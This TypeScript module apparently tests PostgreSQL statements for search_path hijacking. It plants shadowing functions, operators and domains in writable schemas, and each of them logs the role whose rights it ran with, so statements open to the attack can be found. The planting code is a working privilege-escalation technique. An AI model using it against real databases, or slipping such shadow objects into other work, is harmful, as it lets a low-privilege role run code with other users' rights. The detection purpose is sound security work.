/**
 * What a role that may create in a schema can put in the way of statements that are not its own: for each function and operator of the
 * catalog that these statements name, ones of the same name that fit better, and ones that fit as well. Each of them writes down
 * with whose rights it was run. The names are read out of the statements, so that a new one needs no edit here.
 */

import type postgres from 'postgres';

/** Types that stand for others, and those that an argument may be of when it is converted on the way. */
const NARROWER: Readonly<Record<string, readonly string[]>> = {
  text: ['varchar', 'name', '"char"'],
  name: ['text', 'varchar'],
  regclass: ['text', 'oid'],
  oid: ['integer', 'bigint', 'regclass'],
  bigint: ['integer', 'smallint'],
  integer: ['smallint'],
  numeric: ['integer', 'bigint'],
  'double precision': ['integer', 'bigint', 'numeric'],
  'timestamp with time zone': ['timestamp', 'date'],
};
const SCALARS = [
  ...['integer', 'bigint', 'text', 'varchar', 'boolean', 'jsonb', 'numeric', 'timestamptz', 'double precision'],
  ...['name', 'oid', '"char"', 'xid', 'tid', 'interval', 'regclass', 'uuid', 'extensions.citext'],
];
const ARRAYS = ['integer[]', 'bigint[]', 'text[]', 'boolean[]', 'oid[]', '"char"[]', 'extensions.citext[]'];
/** Both sides of an operator. */
const SIDES = [
  ...['integer', 'bigint', 'text', 'varchar', 'name', '"char"', 'boolean', 'numeric', 'oid', 'jsonb'],
  ...['text[]', 'integer[]', 'timestamptz', 'extensions.citext'],
];
const MOST_OF_ONE = 40;

/** Types of the catalog that are spelled without a keyword. */
const DOMAINS = ['text', 'jsonb', 'oid', 'name', 'timestamptz', 'int4', 'int8'];

type Signature = { name: string; args: string[]; variadic: boolean; returns: string; set: boolean };

/** Lists of one alternative for each, the shortest way first. */
const product = (lists: readonly (readonly string[])[]): string[][] =>
  lists.reduce<string[][]>(
    (found, list) => found.flatMap((one) => list.map((next) => [...one, next])).slice(0, MOST_OF_ONE),
    [[]],
  );

function alternatives(type: string): readonly string[] {
  if (/^any.*array$/.test(type)) return ARRAYS;
  if (/^any(element|nonarray|compatible|compatiblenonarray)?$|^"any"$/.test(type)) return SCALARS;
  return [type, ...(NARROWER[type] ?? [])];
}

function argumentLists({ args, variadic }: Signature): string[][] {
  if (!variadic) return product(args.map(alternatives));
  const some = ['text', 'integer', 'boolean', 'bigint', 'jsonb'];
  const before = args.slice(0, -1).map(alternatives);
  return [1, 2, 3, 4].flatMap((count) => product([...before, ...Array.from({ length: count }, () => some)]));
}

/** A type that a function of these arguments may return. */
const result = (type: string) => {
  if (/^any.*array$/.test(type)) return 'integer[]';
  return /^(any.*|record|trigger|event_trigger|void|internal|cstring)$/.test(type) ? 'integer' : type;
};

/** What was run, and with whose rights. Each name is whole, since nothing of this may fall for what is put there. */
const LOOT = `CREATE TABLE public.looted (who pg_catalog.name, what pg_catalog.text);
  CREATE SEQUENCE public.loots;
  GRANT INSERT ON public.looted TO PUBLIC; GRANT USAGE ON SEQUENCE public.loots TO PUBLIC;
  CREATE FUNCTION public.loot(what pg_catalog.text) RETURNS pg_catalog.void LANGUAGE plpgsql AS $$ BEGIN
    -- No rollback takes this back.
    PERFORM pg_catalog.nextval('public.loots'::pg_catalog.regclass);
    INSERT INTO public.looted VALUES (current_user, what);
  END $$;
  CREATE FUNCTION pg_temp.put(statements pg_catalog.text[]) RETURNS pg_catalog.int4 LANGUAGE plpgsql AS $$
  DECLARE one pg_catalog.text; made pg_catalog.int4 := 0; BEGIN
    FOREACH one IN ARRAY statements LOOP
      BEGIN EXECUTE one; made := made OPERATOR(pg_catalog.+) 1; EXCEPTION WHEN OTHERS THEN NULL; END;
    END LOOP;
    RETURN made;
  END $$`;

function functionOf(schema: string, { name, returns, set }: Signature, args: readonly string[]): string {
  const what = `${schema}.${name}(${args.join(', ')})`;
  return `CREATE FUNCTION ${schema}."${name}"(${args.join(', ')}) RETURNS ${set ? 'SETOF ' : ''}${result(returns)} LANGUAGE plpgsql
    AS $$ BEGIN PERFORM public.loot('${what}'); RETURN${set ? '' : ' NULL'}; END $$`;
}

/** For a pair of types, which may share one function. */
const operatorsOf = (schema: string, names: readonly string[], left: string, right: string): string[] => [
  `CREATE FUNCTION ${schema}.compared(${left}, ${right}) RETURNS boolean LANGUAGE plpgsql
    AS $$ BEGIN PERFORM public.loot('operator of ${schema} for ${left} and ${right}'); RETURN NULL; END $$`,
  ...names.map(
    (name) =>
      `CREATE OPERATOR ${schema}.${name} (FUNCTION = ${schema}.compared, LEFTARG = ${left}, RIGHTARG = ${right})`,
  ),
];

/**
 * @param sql a session of the role that attacks
 * @param schemas where it may create, `public` among them
 * @param text all statements that are attacked
 * @returns how many objects were made
 */
export async function putOverloads(sql: postgres.Sql, schemas: readonly string[], text: string): Promise<number> {
  await sql.unsafe(`SET search_path = pg_catalog, pg_temp; SET check_function_bodies = off; ${LOOT}`).simple();
  const words = [...new Set([...text.matchAll(/\b([a-z_][a-z0-9_]*)\s*\(/g)].map(([, word]) => word!))];
  const found = await sql.unsafe<Signature[]>(
    `SELECT p.proname AS name, p.provariadic <> 0 AS variadic, p.proretset AS set, format_type(p.prorettype, NULL) AS returns,
      to_jsonb(ARRAY(SELECT format_type(a.type, NULL) FROM unnest(p.proargtypes) WITH ORDINALITY a(type, place) ORDER BY place)) AS args
    FROM pg_proc p WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.proname IN (SELECT jsonb_array_elements_text($1::text::jsonb)) AND p.pronargs BETWEEN 1 AND 6`,
    [JSON.stringify(words)],
  );
  const operators = await sql.unsafe<{ name: string }[]>(
    'SELECT DISTINCT oprname AS name FROM pg_operator WHERE strpos($1, oprname) > 0',
    [text],
  );
  const names = operators.map(({ name }) => name);
  // In the schema of an extension for its types alone: nothing but their operators is looked up there.
  const meant = (schema: string, types: readonly string[]) =>
    schema === 'public' || types.some((type) => type.startsWith(`${schema}.`));
  const statements = schemas.flatMap((schema) => [
    ...found.flatMap((one) =>
      argumentLists(one).flatMap((args) => (meant(schema, args) ? [functionOf(schema, one, args)] : [])),
    ),
    ...SIDES.flatMap((left) =>
      SIDES.flatMap((right) => (meant(schema, [left, right]) ? operatorsOf(schema, names, left, right) : [])),
    ),
    ...DOMAINS.map(
      (name) => `CREATE DOMAIN ${schema}.${name} AS pg_catalog.${name} CHECK (public.loot('domain ${name}') IS NULL)`,
    ),
  ]);
  const [row] = await sql.unsafe(
    'SELECT pg_temp.put(ARRAY(SELECT jsonb_array_elements_text($1::text::jsonb))) AS made',
    [JSON.stringify([...new Set(statements)])],
  );
  return row!.made;
}

/** What was run so far. */
export const LOOTED = `SELECT 'run ' || last_value || ' times' AS what FROM public.loots WHERE is_called
  UNION ALL SELECT DISTINCT who || ': ' || what FROM public.looted LIMIT 20`;
